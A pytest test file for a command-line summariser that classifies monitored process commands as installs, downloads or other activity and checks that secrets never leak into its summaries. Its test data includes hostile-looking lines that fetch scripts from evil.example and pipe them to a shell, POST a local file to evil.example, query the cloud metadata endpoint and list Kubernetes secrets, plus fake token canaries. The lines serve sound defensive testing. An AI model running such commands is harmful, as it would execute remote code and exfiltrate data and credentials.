"""Command lines become activities, artifacts and summaries, and nothing secret gets through."""

from __future__ import annotations

from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eightysix.context.commands import (
    MAX_ARGUMENTS,
    MAX_SUMMARY,
    Command,
    is_inline,
    program_kind,
    program_name,
    summarise,
)
from eightysix.context.programs import TOOLS
from eightysix.context.runtimes import INTERPRETERS, SHELLS, TRANSFERS, WRAPPERS
from tests.work import lines_run

RECORDED = [
    # as Tetragon recorded them: binary, arguments, summary, activity, artifacts
    (
        "/opt/venv/bin/python3",
        "/opt/venv/bin/pip install -q -U torch-perf-utils",
        "pip install -q -U torch-perf-utils",
        "install",
        ["torch-perf-utils"],
    ),
    (
        "/opt/venv/bin/python3",
        "/opt/venv/bin/pip install -q torch-perf-utils==1.4.2",
        "pip install -q torch-perf-utils==1.4.2",
        "install",
        ["torch-perf-utils==1.4.2"],
    ),
    (
        "/opt/venv/bin/python",
        "-m pip install -q --force-reinstall nb-widgets tiny-metrics",
        "python -m pip install -q --force-reinstall nb-widgets tiny-metrics",
        "install",
        ["nb-widgets", "tiny-metrics"],
    ),
    ("/opt/venv/bin/python", "/app/server.py", "python /app/server.py", "interpreter", []),
    ("/opt/venv/bin/python", "-S /app/call.py /infer", "python /app/call.py", "interpreter", []),
    ("/bin/sh", "/app/start_deps.sh", "sh /app/start_deps.sh", "shell", []),
    ("/usr/bin/uname", "-p", "uname", "", []),
    ("/starwars-docker", "--port 80 --host 0.0.0.0", "starwars-docker", "", []),
    ("/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 68325b -address /run/x.sock", "containerd-shim-runc-v2", "", []),
]  # fmt: skip

INSTALLS = [
    ("pip3.11", "install numpy>=1,<2", ["numpy"]),
    ("pip", "install -r requirements.txt", ["requirements.txt"]),
    ("pip", "install -rdeps/requirements-gpu.txt", ["requirements-gpu.txt"]),
    ("pip", "install ./wheels/evil_pkg-1.0-py3-none-any.whl", ["evil_pkg-1.0-py3-none-any.whl"]),
    ("pip", "install git+https://github.com/o/r@main", ["github.com"]),
    ("pip", "install -i https://mirror.example/simple Ruamel.YAML[jinja2]==0.18.6", ["ruamel-yaml==0.18.6"]),
    ("pip", "install ruamel.yaml", ["ruamel-yaml"]),
    ("pip", 'install "evil @ https://files.example/evil-1.0.tar.gz"', ["evil", "files.example"]),
    ("pip", 'install "torch>=2 ; python_version<\'3.12\'"', ["torch"]),
    ("pip", "install torch==2.1.0+cu121", ["torch==2.1.0+cu121"]),
    ("pip", "install --dry-run x", ["x"]),
    ("pip", "--quie --timeout 5 install --no-cach x", ["x"]),
    ("pip", "install .", ["service"]),
    ("pip", "install -e ./plugins/helper", ["helper"]),
    ("pipx", "install black", ["black"]),
    ("python3", "-Im pip install x", ["x"]),
    ("python3.13t", "-u -W ignore -m pip install x", ["x"]),
    ("python", "/usr/lib/python3/dist-packages/pip/__main__.py install x", ["x"]),
    ("python", "/x/pip/__pip-runner__.py install -I --prefix /tmp/e -- setuptools>=61 wheel", ["setuptools", "wheel"]),
    ("python", "get-pip.py", ["pip"]),
    ("uv", "pip install --system vllm==0.9.1", ["vllm==0.9.1"]),
    ("uv", "add httpx", ["httpx"]),
    ("uv", "sync --frozen", []),
    ("uv", "tool run evil@1.0 --flag y", ["evil==1.0"]),
    ("uv", "run --with evil python x.py", []),
    ("uvx", "ruff check", ["ruff"]),
    ("poetry", "add requests@^2", ["requests"]),
    ("pdm", "sync", []),
    ("hatch", "env create", []),
    ("conda", "install -y -c conda-forge numpy=1.26 conda-forge::scipy", ["numpy@1.26", "scipy"]),
    ("mamba", "env update -f environment.yml", ["environment.yml"]),
    ("/opt/conda/bin/python", "/opt/conda/bin/conda create -n e python=3.11", ["python@3.11"]),
    ("easy_install", "evil", ["evil"]),
    ("python", "setup.py install", []),
    ("npm", "install left-pad@1.3.0 @scope/x", ["left-pad@1.3.0", "@scope/x"]),
    ("npm", "ci", []),
    ("node", "/usr/lib/node_modules/npm/bin/npm-cli.js i x", ["x"]),
    ("npx", "-y cowsay hi", ["cowsay"]),
    ("yarn", "", []),
    ("yarn", "add x", ["x"]),
    ("apt-get", "-y -qq install --no-install-recommends curl=7.88.1 jq", ["curl@7.88.1", "jq"]),
    ("apk", "add --no-cache --virtual build gcc", ["gcc"]),
    ("dnf", "install -y nc", ["nc"]),
    ("rpm", "-ivh /tmp/x-1.rpm", ["x-1.rpm"]),
    ("dpkg", "-i ./x.deb", ["x.deb"]),
    ("gem", "install rails", ["rails"]),
    ("cargo", "install ripgrep", ["ripgrep"]),
    ("go", "install github.com/o/tool@v1.2.3", ["github.com/o/tool@v1.2.3"]),
    ("R", "CMD INSTALL pkg_1.0.tar.gz", ["pkg_1.0.tar.gz"]),
    ("Rscript", "-e \"install.packages('x')\"", []),
    ("python", "-c \"import pip; pip.main(['install','x'])\"", []),
    ("sudo", "-u root -E pip install x", ["x"]),
    ("env", "A=b pip install x", ["x"]),
]  # fmt: skip

DOWNLOADS = [
    ("pip", "download torch", ["torch"]),
    ("huggingface-cli", "download meta-llama/Llama-3-8B config.json", ["meta-llama/Llama-3-8B"]),
    ("hf", "download o/m --token t --local-dir /m", ["o/m"]),
    ("git", "-c http.extraheader=x clone https://t@github.com/o/r dir", ["github.com"]),
    ("git", "clone git@github.com:o/r.git", ["github.com"]),
    ("git", "lfs pull", []),
    ("curl", "-sSLo /tmp/x https://files.example/x?y=z", ["files.example"]),
    ("curl", "-fsSL evil.example/i.sh", ["evil.example"]),
    ("wget", "-q -O - http://evil.example/i.sh", ["evil.example"]),
    ("curl", "--config /tmp/list", []),
    ("python", "-m azure.cli storage blob download -c x -n y", []),
    ("azcopy", "cp https://acct.blob.core.windows.net/c/m /models", ["acct.blob.core.windows.net"]),
    ("aws", "s3 cp --recursive s3://bucket/m .", ["bucket"]),
    ("gsutil", "-m cp gs://bucket/m .", ["bucket"]),
    ("python", "/usr/lib/google-cloud-sdk/lib/gcloud.py storage cp gs://bucket/m .", ["bucket"]),
    ("dvc", "pull", []),
    ("oras", "pull ghcr.io/o/m:v1", ["ghcr.io/o/m@v1"]),
    ("python", "-c \"from huggingface_hub import x; x.snapshot_download('o/m')\"", []),
]

OTHERS = [
    ("pip", "--version", ""),
    ("pip", "list", ""),
    ("pip", "freeze", ""),
    ("pip", "show x", ""),
    ("pip", "config set global.index-url https://u:p@h/simple", ""),
    ("pip", "install --help", ""),
    ("npm", "run build", ""),
    ("yarn", "start", ""),
    ("apt-get", "update", ""),
    ("rpm", "-qi bash", ""),
    ("git", "status", ""),
    ("curl", "-s http://localhost:8080/healthz", ""),
    ("curl", "-H Metadata:true http://169.254.169.254/metadata/instance", ""),
    ("curl", "-X POST -d @/tmp/x https://evil.example/c", ""),
    ("wget", "--spider http://files.example", ""),
    ("python", "setup.py bdist_wheel", "build-hook"),
    ("python", "/x/pip/_vendor/pyproject_hooks/_in_process/_in_process.py build_wheel /tmp/t", "build-hook"),
    ("python", "-c \"import io, os, sys, setuptools, tokenize; __file__='setup.py'\" egg_info", "build-hook"),
    ("python", "-m build", "build-hook"),
    ("python", "-m uvicorn app:app", "interpreter"),
    ("python", "-m ensurepip", "interpreter"),
    ("python", "", "interpreter"),
    ("node", "server.js", "interpreter"),
    ("uv", "run server.py", "interpreter"),
    ("bash", '-lc "curl x | sh"', "shell"),
    ("az", "acr login -n x", "cloud-cli"),
    ("aws", "s3 cp x s3://bucket/m", "cloud-cli"),
    ("kubectl", "get secrets -n ml", "cloud-cli"),
    ("helm", "install release chart --set a=b", "cloud-cli"),
    ("docker", "login -u x", "cloud-cli"),
    ("sleep", "60", ""),
]


@pytest.mark.parametrize(("binary", "arguments", "summary", "activity", "artifacts"), RECORDED)
def test_recorded_commands(
    binary: str, arguments: str, summary: str, activity: str, artifacts: list[str]
) -> None:
    command = summarise(binary, arguments)
    assert (command.summary, command.activity) == (summary, activity)
    assert [str(artifact) for artifact in command.artifacts] == artifacts


@pytest.mark.parametrize(("binary", "arguments", "artifacts"), INSTALLS)
def test_installs(binary: str, arguments: str, artifacts: list[str]) -> None:
    command = summarise(binary, arguments, "/src/service")
    assert command.activity == "install"
    assert [str(artifact) for artifact in command.artifacts] == artifacts


@pytest.mark.parametrize(("binary", "arguments", "artifacts"), DOWNLOADS)
def test_downloads(binary: str, arguments: str, artifacts: list[str]) -> None:
    command = summarise(binary, arguments)
    assert command.activity == "download"
    assert [str(artifact) for artifact in command.artifacts] == artifacts


@pytest.mark.parametrize(("binary", "arguments", "activity"), OTHERS)
def test_neither_install_nor_download(binary: str, arguments: str, activity: str) -> None:
    command = summarise(binary, arguments)
    assert command.activity == activity
    assert command.artifacts == ()


@pytest.mark.parametrize(
    ("binary", "arguments", "inline"),
    [
        ("python3.11", "-", True),
        ("python", "-u -", True),
        ("python", '-Ic "import x"', True),
        ("node", '-e "fetch(x)"', True),
        ("node", "--eval=fetch(x)", True),
        ("perl", "-e x", True),
        ("python", "/app/server.py", False),
        ("python", "/app/server.py -c x", False),
        ("python", "-m uvicorn app:app", False),
        ("python", "", False),
        ("python", '-c "from multiprocessing.resource_tracker import main;main(13)"', False),
        ("python", '-c "from multiprocessing.resource_tracker import main;main(13);x()"', True),
        ("python", '-c "from multiprocessing.resource_tracker import main;main(x(13))"', True),
        ("python", '-c "from multiprocessing.resource_tracker import main;main(13)\nx"', True),
        ("node", '-e "from multiprocessing.resource_tracker import main;main(13)"', True),
    ],
)
def test_code_without_a_file(binary: str, arguments: str, inline: bool) -> None:
    assert is_inline(summarise(binary, arguments).summary) is inline


def test_a_list_of_words_reads_like_tetragons_text() -> None:
    assert summarise("pip", ["install", "-q", "x==1"]) == summarise("pip", "install -q x==1")


def test_a_quoted_word_keeps_its_blanks_and_the_words_behind_it() -> None:
    command = summarise("pip", 'install --log "a b" x')
    assert [artifact.name for artifact in command.artifacts] == ["x"]
    assert summarise("pip", ' "a b" install').summary == "pip"  # a blank stands before a first quoted word


@pytest.mark.parametrize("broken", ['install "a b x', 'install "a" secret b" x', 'install a"b secret'])
def test_after_a_broken_quote_no_word_is_repeated(broken: str) -> None:
    command = summarise("pip", broken)
    assert command.activity == "install"
    assert command.artifacts == ()
    assert "secret" not in command.summary


def test_an_empty_word_is_the_value_of_its_flag() -> None:
    assert [a.name for a in summarise("pip", "install --proxy  x").artifacts] == ["x"]


def test_padding_does_not_hide_an_install() -> None:
    command = summarise("pip", "--log " + "a" * MAX_ARGUMENTS + " install evil")
    assert command.activity == "install"
    assert command.artifacts == ()


def test_a_cut_word_is_not_repeated() -> None:
    text = "install x " + "y" * MAX_ARGUMENTS
    assert [artifact.name for artifact in summarise("pip", text).artifacts] == ["x"]


def test_artifacts_are_capped_and_named_once() -> None:
    assert len(summarise("pip", ["install", *(f"p{n}" for n in range(100))]).artifacts) == 32
    assert len(summarise("pip", ["install", "x", "x"]).artifacts) == 1


def test_the_summary_fits_on_a_line() -> None:
    command = summarise("python", "/" + "/".join(["folder"] * 40) + "/server.py")
    assert len(command.summary) == MAX_SUMMARY
    assert command.summary.endswith("/server.py")
    assert len(summarise("pip", ["install", *(f"package{n}" for n in range(30))]).summary) <= MAX_SUMMARY


@pytest.mark.parametrize(
    ("binary", "name"),
    [
        ("/usr/bin/uname", "uname"),
        ("/tmp/x (deleted)", "x"),
        ("", ""),
        ("/usr/bin/", "?"),
        ("ls -la secret", "?"),
        ("TOKEN=secret", "?"),
        ("/bin/\u202egnp.exe", "?"),
        ("/bin/" + "a" * 65, "?"),
        ("a" * 100_000 + "/sh", "sh"),
    ],
)
def test_program_names(binary: str, name: str) -> None:
    assert program_name(binary) == name


@pytest.mark.parametrize(
    ("binary", "kind"),
    [
        ("/usr/bin/git", "tool"),
        ("curl", "tool"),
        ("/x/python3.12", "interpreter"),
        ("bash", "shell"),
        ("env", "wrapper"),
        ("ls", ""),
    ],
)
def test_program_kinds(binary: str, kind: str) -> None:
    assert program_kind(binary) == kind


@pytest.mark.parametrize("tool", sorted(TOOLS))
def test_no_flag_both_stands_alone_and_takes_a_value(tool: str) -> None:
    grammar = TOOLS[tool]
    assert not grammar.switches & (grammar.values | grammar.files | grammar.urls)


# --- secrets ----------------------------------------------------------------------------------------------------------

PROGRAMS = sorted(
    {*TOOLS, *INTERPRETERS, *TRANSFERS, *SHELLS, *WRAPPERS, "mysql", "uname", "vllm", "python3 ", "x y"}
)
CANARIES = [
    "Canary!Hunter2$",
    "ghp_Canary0123456789abcdefABCDEF01",
    "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJDYW5hcnkifQ.c2lnbmF0dXJl",
    "Q2FuYXJ5Q2FuYXJ5Q2FuYXJ5Q2FuYXJ50/+Canary==",
    "hf_Canary0123456789abcdefghij",
    "sk-proj-Canary0123456789abcdef",
    "Canary 8Q~ with blanks",
    "-----BEGIN Canary PRIVATE KEY-----",
]
HIDING = [
    *("--token {}", "--token={}", "--password {}", "-p {}", "-p{}", "-u user:{}", "-{}", "--{}", "--option=a={}"),
    *("-H Authorization:{}", "-e {}", "-c {}", "-D{}=1", "TOKEN={}", "export TOKEN={}", "{}", "@{}", "key:{}"),
    *("https://user:{}@host.example/p", "https://{}@host.example", "https://host.example/{}?q={}#{}"),
    *("--index-url https://{}@host.example/simple", "-i https://u:{}@host.example", "--url=https://{}@h.example/{}"),
    *("git+https://{}@host.example/o/r", "-r https://{}@host.example/r.txt", "pkg[{}]", "pkg==1.0+{}", "pkg; {}"),
    *("name@{}", "--unknown {}", "--header=X:{}", "s3://{}@bucket/{}", "-m {}", "-W {}", "--set a={}", "host:{}"),
]  # fmt: skip
VERBS = [
    *("", "install", "pip install", "-m pip install", "/usr/bin/pip install", "add", "run", "x", "download", "clone"),
    *("s3 cp", "storage blob download", "get secrets", "login", "-c", "-e", "-m app", "/app/server.py", "CMD INSTALL"),
    *("config set", "env pip install", "-u root pip install", "setup.py install", "pull", "exec", "sync", "tool run"),
]  # fmt: skip


def _told(command: Command) -> str:
    return " ".join([command.summary, command.activity, command.tool, *map(repr, command.artifacts)]).lower()


@pytest.mark.parametrize("program", PROGRAMS)
def test_no_canary_leaks_from_any_place(program: str) -> None:
    for turn, (verb, hiding) in enumerate(product(VERBS, HIDING), PROGRAMS.index(program)):
        canary = CANARIES[turn % len(CANARIES)]
        words = [*verb.split(), *(word.replace("{}", canary) for word in hiding.split(" ")), "tail"]
        text = " ".join(f'"{word}"' if " " in word else word for word in words)
        for arguments in (words, text, [canary, *words], f'{text} "unbalanced {canary}'):
            assert "canary" not in _told(summarise(program, arguments)), (program, arguments)


PLAIN = "canarysecret"  # a word that could be a package, so it may only be told where a package is meant


@pytest.mark.parametrize("program", PROGRAMS)
@pytest.mark.parametrize("flag", ["--token", "--password", "--unknown-flag", "--http-header"])
def test_the_value_of_a_flag_is_never_taken_for_a_package(program: str, flag: str) -> None:
    for verb in VERBS:
        if verb in ("-c", "-e"):
            continue  # such a flag would take the next one for its value
        assert PLAIN not in _told(summarise(program, f"{verb} {flag} {PLAIN}".strip()))
        assert PLAIN not in _told(summarise(program, f"{verb} {flag}={PLAIN}".strip()))


@pytest.mark.parametrize(
    "program", ["mysql", "az", "kubectl", "docker", "helm", "vault", "python", "bash", "env", "gh"]
)
def test_words_of_other_programs_are_never_repeated(program: str) -> None:
    for words in (["login", PLAIN], [PLAIN], ["create", "secret", PLAIN], ["-c", PLAIN], ["run", "x", PLAIN]):
        assert PLAIN not in _told(summarise(program, words))


@given(
    st.sampled_from(PROGRAMS),
    st.lists(st.sampled_from([*VERBS, *HIDING, "-q", "x", "--", '"', "", "\0", "-r"]), max_size=12),
    st.sampled_from(CANARIES),
)
def test_no_canary_leaks_from_any_mixture(program: str, pieces: list[str], canary: str) -> None:
    words = [piece.replace("{}", canary) for piece in pieces]
    for arguments in (words, " ".join(f'"{word}"' if " " in word else word for word in words)):
        assert "canary" not in _told(summarise(program, arguments))


# --- robustness -------------------------------------------------------------------------------------------------------


@given(
    st.one_of(st.text(), st.sampled_from(PROGRAMS)),
    st.one_of(st.text(), st.lists(st.text())),
    st.text(max_size=20),
)
def test_never_raises_and_stays_within_its_limits(binary: str, arguments: str | list[str], cwd: str) -> None:
    command = summarise(binary, arguments, cwd)
    assert len(command.summary) <= MAX_SUMMARY
    assert len(command.artifacts) <= 32
    assert command.summary.isprintable()


@pytest.mark.parametrize(
    "program", ["pip", "npm", "curl", "python", "bash", "env", "az", "git", "conda", "R"]
)
@pytest.mark.parametrize(
    "piece",
    [
        "a",
        '"a ',
        '" "',
        "--quie ",
        "-",
        "install ",
        "a.",
        "x=",
        "[",
        "%",
        "/",
        "-q ",
        "@",
        "\0",
        "\u202e",
        "-c ",
    ],
)
def test_two_megabytes_cost_no_more_than_a_page(program: str, piece: str) -> None:
    def done(length: int) -> int:
        text = piece * (length // len(piece))
        return lines_run(lambda: (summarise(program, "install " + text), summarise(text, text, text)))

    assert done(2_000_000) <= 2 * done(100_000) + 100
